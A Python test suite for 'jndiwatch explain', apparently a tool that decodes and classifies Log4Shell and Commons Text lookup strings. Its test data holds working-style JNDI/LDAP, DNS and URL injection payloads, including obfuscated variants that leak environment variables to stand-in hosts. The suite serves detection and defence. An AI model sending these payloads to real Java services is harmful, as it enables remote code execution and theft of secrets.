#!/usr/bin/python3
"""Black-box tests of `jndiwatch explain`.

usage: test_explain.py PROGRAM
"""

import json
import subprocess
import sys
import unittest

PROGRAM = sys.argv.pop(1)
ATTACK = "${jndi:ldap://203.0.113.9:1389/a}"


def run(*args, feed=None, **more):
    """Exit code, standard output and the lines of standard error."""
    source = {"stdin": subprocess.DEVNULL} if feed is None else {"input": feed}
    done = subprocess.run([PROGRAM, "explain", *args], capture_output=True, timeout=60,
                          check=False, **source, **more)
    return done.returncode, done.stdout, done.stderr.decode().splitlines()


def answers(rows, code=0):
    """The answers to rows of --jsonl; anything but the exit code demanded fails."""
    feed = "".join(json.dumps(row) + "\n" for row in rows).encode()
    got, out, err = run("--jsonl", feed=feed)
    assert got == code and (code or not err), (got, err)
    return [json.loads(line) for line in out.splitlines()]


def answer(payload):
    return answers([{"id": 0, "payload": payload}])[0]


class Answers(unittest.TestCase):
    """What is said of texts."""

    def test_says_what_a_plain_look_up_asks(self):
        self.assertEqual(answers([{"id": "p-1", "payload": ATTACK}]), [{
            "id": "p-1", "detected": True, "class": "attack", "reaches_network": True,
            "lookups": ["jndi:ldap://203.0.113.9:1389/a"],
            "callbacks": ["ldap://203.0.113.9:1389/a"], "variables": [], "encodings": [],
            "tricks": [], "cves": ["CVE-2021-44228"], "depth": 1}])

    def test_says_what_was_peeled_and_what_would_leak(self):
        got = answer("%24{${lower:J}ndi:dns://${env:USER}.x.example/${hostName}}")
        self.assertEqual(got["lookups"], ["jndi:dns://${env:USER}.x.example/${hostName}"])
        self.assertEqual(got["callbacks"], ["dns://${env:USER}.x.example:53/${hostName}"])
        self.assertEqual(sorted(got["variables"]), ["env:USER", "hostName"])
        self.assertEqual((got["encodings"], got["depth"]), (["percent"], 2))
        self.assertIn("lower", got["tricks"])

    def test_only_an_attack_is_detected(self):
        for payload, kind in (("$" + ATTACK, "conditional"), ("${jndi :ldap://x/a}", "attempt"),
                              ("${jndi}", "none"), ("", "none")):
            got = answer(payload)
            self.assertEqual((got["class"], got["detected"]), (kind, False), payload)

    def test_what_commons_text_would_do_stands_apart(self):
        got = answer("%24{url:UTF-8:http://x.example/a}")
        self.assertEqual((got["detected"], got["class"], got["lookups"]), (False, "none", []))
        self.assertEqual(got["commons_text"], {
            "class": "attack", "reaches_network": True,
            "lookups": ["url:UTF-8:http://x.example/a"],
            "callbacks": ["http://x.example:80/a"], "variables": [], "encodings": ["percent"],
            "tricks": [], "cves": ["CVE-2022-42889"], "depth": 1})
        both = answer("${script:js:1} " + ATTACK)
        self.assertEqual((both["class"], both["lookups"], both["commons_text"]["lookups"]),
                         ("attack", ["jndi:ldap://203.0.113.9:1389/a"], ["script:js:1"]))
        self.assertNotIn("commons_text", answer(ATTACK + " ${env:dns}"))

    def test_the_page_has_a_part_for_commons_text(self):
        _, out, _ = run("${dns:x.example}")
        lines = [" ".join(line.split()) for line in out.decode().splitlines()]
        at = lines.index("dialect Commons Text")
        self.assertIn("class none", lines[:at])
        for line in ("class attack", "asks dns:x.example", "calls dns://x.example",
                     "points at CVE-2022-42889", "asks for dns:x.example"):
            self.assertIn(line, lines[at:])

    def test_each_name_has_its_call_back(self):
        got = answer("${jndi:foo} ${jndi:rmi://a/x} ${jndi:LDAP://b:7/} ${jndi:ldap:/c} "
                     "${jndi:rmi://a/x}")
        self.assertEqual(got["lookups"], ["jndi:java:comp/env/foo", "jndi:rmi://a/x",
                                          "jndi:LDAP://b:7/", "jndi:ldap:/c"])
        self.assertEqual(got["callbacks"], ["rmi://a:1099/x", "LDAP://b:7/",
                                            "ldap://localhost:389/c"])

    def test_any_string_of_json_comes_back(self):
        for char in ("\0", "\n", "\x1b", "\x7f", "\"", "\\", "\u202e", "\ud800", "\udfff",
                     "\U0001f600", "\ufeff", "\u0131"):
            got = answers([{"id": char, "payload": "${jndi:ldap://x/" + char + "}"}])[0]
            self.assertEqual((got["id"], got["lookups"]), (char, ["jndi:ldap://x/" + char]))

    def test_bytes_that_are_no_text_are_shown_as_such(self):
        code, out, err = run("--jsonl", feed=b'{"payload":"${jndi:ldap://x/\xff}"}\n')
        self.assertEqual((code, err), (0, []))
        self.assertEqual(json.loads(out)["lookups"], ["jndi:ldap://x/\\xff"])

    def test_megabytes_are_searched_to_their_end(self):
        for size in (100_000, 1 << 18, 3_000_000):
            got = answer("A" * size + ATTACK + "B" * size)
            self.assertEqual(got["callbacks"], ["ldap://203.0.113.9:1389/a"], size)

    def test_look_ups_far_apart_are_all_told(self):
        got = answer((ATTACK + "x" * 200_000) * 3 + "${jndi:rmi://y/b}")
        self.assertEqual(got["lookups"], ["jndi:ldap://203.0.113.9:1389/a", "jndi:rmi://y/b"])

    def test_what_was_given_up_is_said(self):
        got = answer("${jndi:" * 30_000)
        self.assertIs(got["over_budget"], True)

    def test_the_time_is_that_of_the_event(self):
        code, out, _ = run("--json", "--time", "1639139696", "${jndi:x:${date:yyyy-MM-dd HH}}")
        self.assertEqual((code, json.loads(out)["lookups"]), (0, ["jndi:x:2021-12-10 12"]))


class Output(unittest.TestCase):
    """The two forms of an answer."""

    def test_no_look_up_stands_in_it(self):
        for args in (("--json",), ("--jsonl",)):
            feed = json.dumps({"id": ATTACK, "payload": ATTACK + "${jndi:ldap://x/${env:A}}"})
            _, out, _ = run(*args, feed=feed.encode())
            self.assertIn(b"\\u0024", out)
            self.assertNotIn(b"${", out)

    def test_nothing_on_the_page_moves_the_cursor(self):
        text = "a\x1b[2J\r\n\t\x07\x9b\u202e\u2028\x7f" + ATTACK
        code, out, err = run(text)
        self.assertEqual((code, err), (0, []))
        shown = out.decode().replace("\n", "")
        self.assertTrue(shown.isprintable(), ascii(shown))
        self.assertIn("a\\u001b[2J\\r\\n\\t\\u0007\\u009b\\u202e\\u2028\\u007f", shown)

    def test_the_page_tells_each_step(self):
        code, out, _ = run("%24{${::-j}ndi:ldap://x/${env:A}}")
        lines = [" ".join(line.split()) for line in out.decode().splitlines()]
        self.assertEqual(code, 0)
        for line in ("peeled percent", "reads ${${::-j}ndi:ldap://x/${env:A}}",
                     ": gives nothing, so its default j", "env:A gives nothing and stays",
                     "asks JNDI for ldap://x/${env:A}", "class attack",
                     "asks jndi:ldap://x/${env:A}", "calls ldap://x:389/${env:A}",
                     "carries env:A", "depth 2"):
            self.assertIn(line, lines)

    def page(self, text):
        """The lines of a page, blanks joined."""
        code, out, err = run(feed=text.encode() + b"\n")
        self.assertEqual((code, err), (0, []))
        return [" ".join(line.split()) for line in out.decode().splitlines()]

    def test_the_page_tells_what_keeps_a_look_up_from_firing(self):
        lines = self.page("$${jndi:x} ${java:q}")
        for line in ("pass 1 $${jndi:x} ${java:q}",
                     "${jndi:x} ${java:q} is escaped: one $ before it goes",
                     "q ends it all: IllegalArgumentException: q",
                     "evaluated the escaped look-up alone", "class conditional",
                     "would ask jndi:java:comp/env/x", "nothing of this leaves the machine",
                     "tricks escaped", "points at CVE-2021-44228"):
            self.assertIn(line, lines)
        lines = self.page("a ${ ${jndi:ldap://x/a}")
        for line in ("${ ${jndi:ldap://x/a} has no end: nothing from here on is looked at",
                     "evaluated as if a further look-up stood behind it",
                     "evaluated with each missing '}' behind it", "calls ldap://x:389/a",
                     "tricks nested, shielded"):
            self.assertIn(line, lines)
        self.assertNotIn("nothing of this leaves the machine", lines)
        lines = self.page("#{jndi:ldap://x/a}")
        self.assertIn("evaluated for what was meant as a look-up", lines)
        self.assertEqual([line for line in lines if "ask" in line], [])

    def test_the_page_tells_values_and_passes(self):
        lines = self.page("$${lower:${upper:a}} ${date:'j'}${sys:file.separator} ${z}")
        for line in ("upper:a gives A", "date:'j' gives j", "sys:file.separator gives /",
                     "z gives nothing and stays", "class none"):
            self.assertIn(line, lines)
        self.assertTrue([line for line in lines if line.startswith("pass 2 ")], lines)

    def test_the_page_tells_what_it_leaves_out(self):
        lines = self.page("${a}" * 300)
        self.assertTrue([line for line in lines if line.endswith("… (800 more bytes)")], lines)
        self.assertTrue([line for line in lines
                         if line.startswith("… and ") and line.endswith(" more steps")], lines)
        lines = self.page("${jndi:" * 30_000)
        self.assertIn("class attempt, given up: too costly to evaluate to its end", lines)

    def test_a_page_has_an_end(self):
        _, out, _ = run("${a}" * 20_000)
        self.assertLess(len(out), 100_000)

    def test_texts_and_lines_are_numbered(self):
        for args, feed in ((("--json", "a", ATTACK), None),
                           (("--json",), b"a\n" + ATTACK.encode())):
            _, out, _ = run(*args, feed=feed)
            rows = [json.loads(line) for line in out.splitlines()]
            self.assertEqual([(r["id"], r["detected"]) for r in rows], [(1, False), (2, True)])

    def test_a_text_may_begin_with_a_dash(self):
        _, out, _ = run("--json", "--", "--json")
        self.assertEqual(json.loads(out)["id"], 1)


class Mistakes(unittest.TestCase):
    """What is said when something is wrong."""

    def check_bad(self, line, why):
        feed = b'{"id":1,"payload":"a"}\n' + line + b'\n{"id":3,"payload":"b"}\n'
        code, out, err = run("--jsonl", feed=feed)
        self.assertEqual([json.loads(row)["id"] for row in out.splitlines()], [1, 3])
        self.assertEqual((code, len(err)), (1, 1), err)
        self.assertRegex(err[0], "^jndiwatch: error: cannot read line 2 of 'stdin': " + why)

    def test_a_bad_line_is_told_and_passed(self):
        for line, why in ((b"", "an empty line"), (b"x", "no object"), (b"[]", "no object"),
                          (b'{"payload":"a"', "no ',' and no end"),
                          (b'{"payload":"a', "a string without an end"),
                          (b'{"payload":7}', '"payload" is no string'),
                          (b'{"id":2}', 'no "payload"'),
                          (b'{"id":[2],"payload":"a"}', '"id" is no string'),
                          (b'{"payload":"\\x"}', "an escape that JSON does not have"),
                          (b'{"payload":"a"} \x1b', "something behind the object")):
            self.check_bad(line, why)

    def test_many_bad_lines_are_summed_up(self):
        code, _, err = run("--jsonl", feed=b"x\n" * 1000)
        self.assertEqual((code, len(err)), (1, 21))
        self.assertIn("980 more lines", err[-1])

    def test_lines_may_end_in_crlf_and_begin_with_a_mark(self):
        code, out, _ = run("--jsonl", feed=b'\xef\xbb\xbf{"id":1,"payload":"a"}\r\n')
        self.assertEqual((code, json.loads(out)["id"]), (0, 1))

    def test_ids_of_other_kinds(self):
        for text, value in ((b"1.50", 1.5), (b"null", None), (b"true", True)):
            _, out, _ = run("--jsonl", feed=b'{"id":' + text + b',"payload":"a"}')
            self.assertEqual(json.loads(out)["id"], value)

    def test_names_of_members_may_be_escaped(self):
        code, out, _ = run("--jsonl", feed=b'{"\\u0069d":1,"pa\\u0079load":"a"}')
        self.assertEqual((code, json.loads(out)["id"]), (0, 1))

    def test_an_empty_input_is_a_mistake(self):
        for args in ((), ("--json",), ("--jsonl",)):
            code, out, err = run(*args)
            self.assertEqual((code, out, len(err)), (1, b"", 1))
            self.assertIn("'stdin' is empty", err[0])

    def test_a_closed_input_is_an_empty_one(self):
        done = subprocess.run(["sh", "-c", 'exec "$0" explain --jsonl <&-', PROGRAM],
                              capture_output=True, timeout=60, check=False)
        self.assertEqual((done.returncode, done.stdout), (1, b""))

    def test_an_input_that_cannot_be_read(self):
        done = subprocess.run(["sh", "-c", 'exec "$0" explain --jsonl </', PROGRAM],
                              capture_output=True, timeout=60, check=False)
        self.assertEqual(done.returncode, 1)
        self.assertIn(b"Is a directory", done.stderr)

    def test_lost_answers_are_counted(self):
        for args in (("a", "b"), ("--json", "a")):
            with open("/dev/full", "wb") as full:
                done = subprocess.run([PROGRAM, "explain", *args], stdout=full,
                                      stderr=subprocess.PIPE, timeout=60, check=False)
            self.assertEqual(done.returncode, 3)
            self.assertIn(b"No space left on device; 0 answers were written", done.stderr)

    def test_wrong_usage_starts_nothing(self):
        for args in (("--nosuch",), ("--time",), ("--time", "x"), ("--jsonl", "a"), ("-x",)):
            code, out, err = run(*args)
            self.assertEqual((code, out, len(err)), (2, b"", 1), args)

    def test_help_names_every_option(self):
        code, out, _ = run("--help")
        self.assertEqual(code, 0)
        for option in (b"--json ", b"--jsonl ", b"--time ", b"--help "):
            self.assertIn(option, out)


if __name__ == "__main__":
    unittest.main()
